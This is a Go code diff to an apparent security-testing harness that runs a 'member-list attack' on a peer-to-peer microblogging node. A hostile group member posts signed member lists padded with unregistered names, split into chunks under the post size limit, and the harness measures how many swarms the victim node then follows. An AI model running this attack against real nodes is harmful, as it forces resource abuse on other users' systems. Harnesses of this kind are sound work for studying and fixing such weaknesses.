@@ -49,8 +49,8 @@ type MemberListConfig struct {
 	LocalK     int64               // Local's next free piece number
 	Member     string              // the hostile member
 	MemberKey  *twproto.PrivateKey // its key (e.g. from its own node's dumpprivkey)
-	Ghosts     []string            // unregistered names (at most 1,000)
-	Registered []string            // registered names (at most 1,000)
+	Ghosts     []string            // unregistered names
+	Registered []string            // registered names; at most 400 names in all (10 posts)
 	Height     int64               // the post's block height (the best height, or one less)
 	// Restart, when set, stops and starts the victim (same data directory);
 	// it returns the new client.
@@ -61,6 +61,7 @@ type MemberListConfig struct {
 // MemberListResult counts the named users whose swarm the victim runs.
 type MemberListResult struct {
 	Ghosts, Registered int // names in the list
+	Posts              int // member-list posts it took
 	// Before the post, once it was processed, and after a restart
 	// (-1: no restart asked).
 	GhostsBefore, GhostsAfter, GhostsRestart int
@@ -69,15 +70,19 @@ type MemberListResult struct {
 }
 
 func (r MemberListResult) String() string {
-	return fmt.Sprintf("member list: %d unregistered and %d registered names; unregistered followed %d -> %d (after restart %d), registered followed %d -> %d (after restart %d), %v",
-		r.Ghosts, r.Registered, r.GhostsBefore, r.GhostsAfter, r.GhostsRestart, r.RegBefore, r.RegAfter, r.RegRestart, r.Elapsed.Round(time.Millisecond))
+	return fmt.Sprintf("member list: %d unregistered and %d registered names in %d posts; unregistered followed %d -> %d (after restart %d), registered followed %d -> %d (after restart %d), %v",
+		r.Ghosts, r.Registered, r.Posts, r.GhostsBefore, r.GhostsAfter, r.GhostsRestart, r.RegBefore, r.RegAfter, r.RegRestart, r.Elapsed.Round(time.Millisecond))
 }
+
+// membersPerPost keeps one member-list post under twproto.MaxPostSize
+// (names of up to 16 bytes, the ECIES envelope and the signature).
+const membersPerPost = 40
 
 // MemberList runs the member-list attack.
 func MemberList(ctx context.Context, cfg MemberListConfig) (MemberListResult, error) {
 	res := MemberListResult{GhostsRestart: -1, RegRestart: -1}
-	if cfg.Victim == nil || cfg.MemberKey == nil || len(cfg.Ghosts) > 1000 || len(cfg.Registered) > 1000 {
-		return res, errors.New("abuse: member list: victim, member key and at most 1,000 names of each kind needed")
+	if cfg.Victim == nil || cfg.MemberKey == nil || len(cfg.Ghosts)+len(cfg.Registered) > 400 {
+		return res, errors.New("abuse: member list: victim, member key and at most 400 names needed")
 	}
 	res.Ghosts, res.Registered = len(cfg.Ghosts), len(cfg.Registered)
 	ctx, cancel := withBound(ctx, bound(cfg.Timeout, 60*time.Second))
@@ -160,15 +165,20 @@ func MemberList(ctx context.Context, cfg MemberListConfig) (MemberListResult, er
 		return res, err
 	}
 
-	// The list: ghosts first (they must not use up the cap), 0 as the
-	// member's piece (its first post).
+	// The list, ghosts first (they must not use up the cap), in as many
+	// of the member's pieces (0, 1, ...) as a post's size limit needs.
 	names := append(append([]string(nil), cfg.Ghosts...), cfg.Registered...)
-	post, err := GroupMembersPost(cfg.MemberKey, cfg.Member, 0, cfg.Height, gk.PubKey(), names, time.Now())
-	if err != nil {
-		return res, err
-	}
-	if _, err := call("newpostraw", cfg.Member, 0, hex.EncodeToString(post)); err != nil {
-		return res, err
+	for k, rest := int64(0), names; len(rest) > 0; k++ {
+		chunk := rest[:min(len(rest), membersPerPost)]
+		rest = rest[len(chunk):]
+		post, err := GroupMembersPost(cfg.MemberKey, cfg.Member, k, cfg.Height, gk.PubKey(), chunk, time.Now())
+		if err != nil {
+			return res, err
+		}
+		if _, err := call("newpostraw", cfg.Member, k, hex.EncodeToString(post)); err != nil {
+			return res, err
+		}
+		res.Posts++
 	}
 	// Processed once the group's member list holds the names.
 	for {
